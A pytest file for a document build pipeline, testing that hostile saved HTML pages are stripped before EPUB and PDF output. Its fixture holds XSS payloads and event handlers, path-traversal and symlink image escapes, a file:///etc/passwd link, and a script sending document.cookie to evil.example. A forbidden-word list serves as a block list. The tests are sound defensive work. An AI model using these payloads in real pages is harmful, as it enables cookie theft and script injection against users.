"""Hostile saved pages: scripts, event handlers, javascript: and data: links, images that reach out of the
page's folder, deep nesting, huge pages and files that are not HTML. Nothing runs, nothing is fetched or
read outside the page's folder, and nothing of theirs reaches either edition."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from PIL import Image

from conftest import make_project
from pipeline.build import BuildOptions, build
from pipeline.problems import PipelineError
from pipeline.seeds import read_seed

BOOK = """\
title: Hostile
editor: Test Editor
language: en-GB
identifier: urn:uuid:00000000-0000-4000-8000-000000000666
date: "2024-06-01"
chapters:
  - seed: page.html
    id: page
    title: A Page
"""
PROSE = ("The committee met on a wet Tuesday in the back room of the library, and for once every member "
         "had read the papers before the meeting began. ")
HOSTILE = f"""<!DOCTYPE html><html><head><title>Hostile</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<link rel="attachment" href="file:///etc/passwd"><style>p {{ background: url(https://evil.example/bg.png) }}</style>
</head><body onload="alert('onload')">
<main><article>
<h1>A Page</h1>
<p style="color:red" onclick="alert('click')">{PROSE * 2}<a href="javascript:alert('js')">a javascript link</a>
and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data link</a>
and <a href="vbscript:msgbox(1)">a vbscript link</a> and <a href="https://example.org/ok">a good link</a>.</p>
<img src="page_files/../../secret.png" alt="The secret" width="400" height="300">
<img src="/etc/passwd.png" alt="An absolute path" width="400" height="300">
<img src="page_files/escape.png" alt="A link out of the folder" width="400" height="300">
<img src="https://evil.example/tracker.png" alt="A picture on the web" width="400" height="300">
<img src="x" onerror="alert('onerror')" width="400" height="300">
<p>{PROSE * 3}<script>document.write('<b>injected</b>')</script><svg onload="alert('svg')"><text>svg text</text></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>
<custom-element data-x="1" onmouseover="alert('custom')">custom words</custom-element>
<template><p>template words</p></template><noscript>noscript words</noscript></p>
<form action="https://evil.example/post"><input name="q" value="form value"><button formaction="javascript:alert(1)">Go</button></form>
<p>{PROSE * 3}</p>
</article></main></body></html>"""
FORBIDDEN = ("alert", "onerror", "onload", "onclick", "onmouseover", "javascript:", "vbscript:", "data:text", "evil",
             "<script", "custom-element", "injected", "style=", "template words", "form value", "secret", "passwd",
             "iframe", "<object", "<svg", "document.cookie")


def hostile_project(root: Path, page: str = HOSTILE) -> Path:
    make_project(root, {"page.html": page}, BOOK)
    folder = root / "seeds" / "page_files"
    folder.mkdir()
    Image.new("RGB", (400, 300), (255, 0, 0)).save(root / "seeds" / "secret.png")  # outside the page's folder
    secret = root / "secret-outside.png"
    Image.new("RGB", (400, 300), (0, 255, 0)).save(secret)
    (folder / "escape.png").symlink_to(secret)  # inside by name, outside in fact
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = hostile_project(tmp_path_factory.mktemp("hostile"))
    result = build(BuildOptions(project=root, out=root / "out", cache_layout=False, jobs=1))
    with zipfile.ZipFile(root / "out" / "hostile.epub") as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    return root, result, files, (root / "out" / "hostile.pdf").read_bytes()


def test_nothing_of_the_hostile_markup_reaches_the_epub(hostile):
    _, _, files, _ = hostile
    chapter = files["EPUB/text/chapter-1.xhtml"].decode()
    for word in FORBIDDEN:
        assert word not in chapter, word
    assert '<a href="https://example.org/ok">a good link</a>' in chapter
    assert "a javascript link and a data link and a vbscript link" in chapter  # their words stay, as text
    assert not [name for name in files if name.startswith("EPUB/images/") and "cover" not in name]


def test_nothing_outside_the_pages_folder_is_read_into_the_pdf(hostile):
    root, result, _, pdf = hostile
    from pypdf import PdfReader
    reader = PdfReader(root / "out" / "hostile.pdf")
    assert not any(page.images for page in reader.pages)
    text = " ".join(page.extract_text() for page in reader.pages)
    for word in ("alert(", "javascript:", "injected", "template words", "form value", "evil"):
        assert word not in text, word
    assert b"/passwd" not in pdf and b"evil.example" not in pdf


def test_every_refused_image_is_a_warning_that_names_it(hostile):
    _, result, _, _ = hostile
    warnings = " ".join(str(w) for w in result.warnings)
    assert "page_files/../../secret.png refused" in warnings
    assert "/etc/passwd.png refused" in warnings
    assert "page_files/escape.png refused" in warnings  # a symbolic link out of the folder
    assert "https://evil.example/tracker.png is on the web" in warnings and "not fetched" in warnings


def _page_error(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(PipelineError) as caught:
        read_seed(path)
    return str(caught.value)


def test_a_page_nested_ten_thousand_deep_is_refused_with_the_file_named(tmp_path):
    page = b"<html><body>" + b"<div>" * 10_000 + b"deep" + b"</div>" * 10_000 + b"</body></html>"
    message = _page_error(tmp_path, "deep.html", page)
    assert "deep.html" in message and "nests its elements deeper" in message


def test_a_huge_page_is_refused_with_the_file_named(tmp_path):
    page = b"<html><body>" + b"<p>" + b"word " * 4_200_000 + b"</p></body></html>"  # 21 MB
    message = _page_error(tmp_path, "huge.html", page)
    assert "huge.html" in message and "MB" in message and "not read" in message


@pytest.mark.parametrize("name,data,expected", [
    ("photo.html", Image.new("RGB", (10, 10)).tobytes() + b"\x00" * 10 + b"\x89PNG", "not an HTML page"),
    ("notes.html", b"Just some text someone saved with the wrong name.\nSecond line.\n", "not an HTML page"),
    ("empty.htm", b"", "page is empty"),
])
def test_a_file_that_is_not_html_is_a_clear_error_naming_it(tmp_path, name, data, expected):
    message = _page_error(tmp_path, name, data)
    assert name in message and expected in message


def test_a_frameset_is_an_error_that_names_its_frames_pages_and_line(tmp_path):
    page = (b'<html><head><title>Framed</title></head>\n<frameset cols="20%,80%">\n'
            b'<frame src="menu.html">\n<frame src="story.html">\n</frameset></html>')
    message = _page_error(tmp_path, "framed.html", page)
    assert "framed.html:3" in message and "frameset" in message and "menu.html, story.html" in message
    assert "Save Frame As" in message


def test_a_page_with_frames_and_text_of_its_own_is_read(tmp_path):
    page = f'<html><body><p>{PROSE}</p><frameset><frame src="ad.html"></frameset></body></html>'
    path = tmp_path / "mixed.html"
    path.write_text(page)
    assert "wet Tuesday" in " ".join(read_seed(path).lines)


def test_a_nesting_deep_but_readable_page_keeps_its_text(tmp_path):
    page = "<html><body>" + "<div>" * 200 + f"<p>{PROSE}</p>" + "</div>" * 200 + "</body></html>"
    path = tmp_path / "nested.html"
    path.write_text(page)
    source = read_seed(path)
    assert [u.text for u in source.units] == [PROSE.strip()]


def test_a_comment_left_open_is_a_warning_that_counts_the_words_it_hides(tmp_path):
    from pipeline.clean import clean
    prose = "The tide came in slowly over the mud flats of the old harbour. " * 3
    page = tmp_path / "walk.html"
    page.write_text(f"<html><body><h1>Harbour walk</h1>\n<p>{prose}</p>\n<!-- a note\n<p>Later the boats "
                    f"returned with the evening tide.</p></body></html>", encoding="utf-8")
    warnings = [(event.line, event.detail) for event in clean(read_seed(page)).warnings()]
    assert any(line == 3 and "never closed" in detail and "10 words" in detail for line, detail in warnings), warnings
    page.write_text(page.read_text(encoding="utf-8").replace("a note", "a note -->"), encoding="utf-8")
    assert not any("never closed" in event.detail for event in clean(read_seed(page)).warnings())


def test_a_comment_left_open_over_scripts_alone_hides_no_word_and_says_nothing(tmp_path):
    from pipeline.clean import clean
    prose = "The tide came in slowly over the mud flats of the old harbour. " * 3
    page = tmp_path / "walk.html"
    page.write_text(f"<html><body><h1>Harbour walk</h1>\n<p>{prose}</p>\n<!--\n<script type=\"application/ld+json\">"
                    f"{{\"@type\": \"BreadcrumbList\", \"name\": \"Home\"}}</script>\n<style>p {{ color: red }}</style>"
                    f"\n</body></html>", encoding="utf-8")
    assert not any("never closed" in event.detail for event in clean(read_seed(page)).warnings())
